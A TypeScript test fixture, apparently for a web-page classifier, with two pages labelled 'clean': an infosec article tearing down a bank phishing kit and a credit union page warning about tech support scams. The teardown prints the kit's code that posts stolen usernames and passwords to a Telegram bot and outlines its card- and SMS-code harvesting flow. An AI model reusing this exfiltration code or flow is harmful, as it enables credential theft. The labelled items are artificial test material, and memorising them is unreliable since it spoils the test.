import type { Entry } from '../entry.js';
import { raw, js, md, mdRenderer, articleCss } from '../parts/c-benign-articles.js';

export const entries: Entry[] = [
  {
    id: 'c-clean-article-kit-teardown',
    label: 'clean',
    kind: 'article',
    url: 'https://www.infosec-digest.org/2024/05/teardown-telegram-exfil-bank-kit',
    body: raw`<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Teardown: a bank kit that exfiltrates to Telegram | Infosec Digest</title><link rel="stylesheet" href="/assets/site.css"></head>
<body><header>Infosec Digest</header><article id="a"><p class="meta">Loading…</p></article><aside style="max-width:760px;margin:0 auto 40px;padding:0 20px;font:14px Inter,Arial,sans-serif"><h3>Comments</h3><div id="cm">Loading comments…</div></aside>
<script src="/assets/md.js"></script>
<script>
Promise.all([fetch('/api/posts/teardown-telegram-exfil-bank-kit.md').then((r) => r.text()), fetch('/api/posts/teardown-telegram-exfil-bank-kit/comments').then((r) => r.json())]).then(([t, c]) => {
  document.getElementById('a').innerHTML = '<p class="meta">Published May 2024 · Tim Okonkwo</p>' + renderMarkdown(t);
  document.getElementById('cm').innerHTML = c.map((x) => '<p><b>' + x.user + '</b>: ' + x.text.replace(/</g, '&lt;') + '</p>').join('');
});
</script></body></html>`,
    routes: {
      'www.infosec-digest.org/assets/md.js': js(mdRenderer),
      'www.infosec-digest.org/assets/site.css': { status: 200, headers: { 'content-type': 'text/css' }, body: articleCss },
      'www.infosec-digest.org/api/posts/teardown-telegram-exfil-bank-kit.md': md(raw`# Teardown: a bank kit that exfiltrates to Telegram

The kit arrived as an SMS link posing as a bank "security update". The landing page is an empty div; everything is drawn by one script, and stolen data never touches the kit's own server.

## The exfiltration

` + '```' + raw`js
var T = '<bot token>', C = '<chat id>';
function tg(txt) {
  return fetch('https://api.telegram.org/bot' + T + '/sendMessage', {
    method: 'POST', headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ chat_id: C, text: txt })
  });
}
tg('LOGIN\nUser: ' + user + '\nPass: ' + pass);
` + '```' + raw`

Because the bot token is in the page, responders can often enumerate the chat and notify victims. We reported the bot to Telegram.

## Steps of the flow

- Step 1: username and password, then a fake "incorrect password" to harvest a second attempt.
- Step 2: an SMS code screen, relayed in real time.
- Step 3: card number, expiry and CVV "to verify the device".

> Banks do not ask for your card PIN or full card number to "update security".
`),
      'www.infosec-digest.org/api/posts/teardown-telegram-exfil-bank-kit/comments': { status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify([{ user: 'jl_dfir', text: 'Same bot pattern in a PostNL kit last week.' }, { user: 'ana.s', text: 'Great write-up, thanks for the YARA rule.' }]) },
    },
  },
  {
    id: 'c-clean-article-support-scam-awareness',
    label: 'clean',
    kind: 'article',
    url: 'https://www.harbourcu.ca/security/tech-support-scams',
    body: raw`<!DOCTYPE html><html lang="en-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Tech support scams | Security Centre | Harbour Credit Union</title>
<style>body{margin:0;font-family:"Open Sans",Arial,sans-serif;color:#1d2d3a}.hd{background:#00467f;color:#fff;padding:16px 28px;font-weight:700}.c{max-width:780px;margin:30px auto;padding:0 20px;line-height:1.65}.fake{border:2px dashed #c0392b;border-radius:8px;padding:14px;background:#fdf2f0;font-family:"Segoe UI",sans-serif;position:relative}.fake:before{content:"EXAMPLE OF A SCAM PAGE";position:absolute;top:-10px;right:10px;background:#c0392b;color:#fff;font-size:11px;padding:2px 6px;border-radius:3px}.q{background:#eef4fa;border-radius:8px;padding:14px;margin-top:16px}.q button{margin:4px;padding:8px 12px;border:1px solid #00467f;background:#fff;border-radius:6px;cursor:pointer}</style></head>
<body><div class="hd">Harbour Credit Union · Security Centre</div><div class="c" id="c"></div>
<script>
fetch('/security/api/topics/tech-support-scams').then(function (r) { return r.json(); }).then(function (t) {
  var c = document.getElementById('c');
  c.innerHTML = '<h1>' + t.title + '</h1><p>' + t.intro + '</p><div class="fake"><b>' + t.example.heading + '</b><p>' + t.example.text + '</p></div><h2>Warning signs</h2><ul>' + t.signs.map(function (s) { return '<li>' + s + '</li>'; }).join('') + '</ul><h2>If it happens to you</h2><ol>' + t.steps.map(function (s) { return '<li>' + s + '</li>'; }).join('') + '</ol><div class="q"><b>Quick check:</b> ' + t.quiz.q + '<br>' + t.quiz.a.map(function (a, i) { return '<button data-i="' + i + '">' + a + '</button>'; }).join('') + '<p id="r"></p></div>';
  c.querySelectorAll('.q button').forEach(function (b) { b.onclick = function () { document.getElementById('r').textContent = +b.dataset.i === t.quiz.correct ? 'Correct. ' + t.quiz.why : 'Not quite. ' + t.quiz.why; }; });
});
</script></body></html>`,
    routes: {
      'www.harbourcu.ca/security/api/topics/tech-support-scams': { status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({
        title: 'Tech support scams',
        intro: 'A web page suddenly goes full screen, plays an alarm and says your computer is infected. It gives a phone number for "Microsoft" or "Apple" support. It is a scam: the browser cannot tell you that your computer has a virus.',
        example: { heading: 'Windows Defender – Security Warning', text: '** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS ** Call Windows Support immediately at 1-8XX-XXX-XXXX. Do not restart your computer.' },
        signs: ['The page will not close and keeps showing pop-ups.', 'It gives a phone number to call.', 'The "technician" asks you to install AnyDesk, TeamViewer or similar remote-access software.', 'They ask you to log in to online banking "to check for fraud", or to buy gift cards.'],
        steps: ['Do not call the number.', 'Press Esc to leave full screen, then close the browser with Ctrl+Shift+Esc (Task Manager) if needed.', 'If you gave someone remote access, disconnect from the internet and call us at the number on the back of your card.'],
        quiz: { q: 'A pop-up says your PC is blocked and to call Microsoft. What do you do?', a: ['Call the number', 'Close the browser'], correct: 1, why: 'Microsoft never puts phone numbers in error messages. Close the browser and do not call.' },
      }) },
    },
  },
];
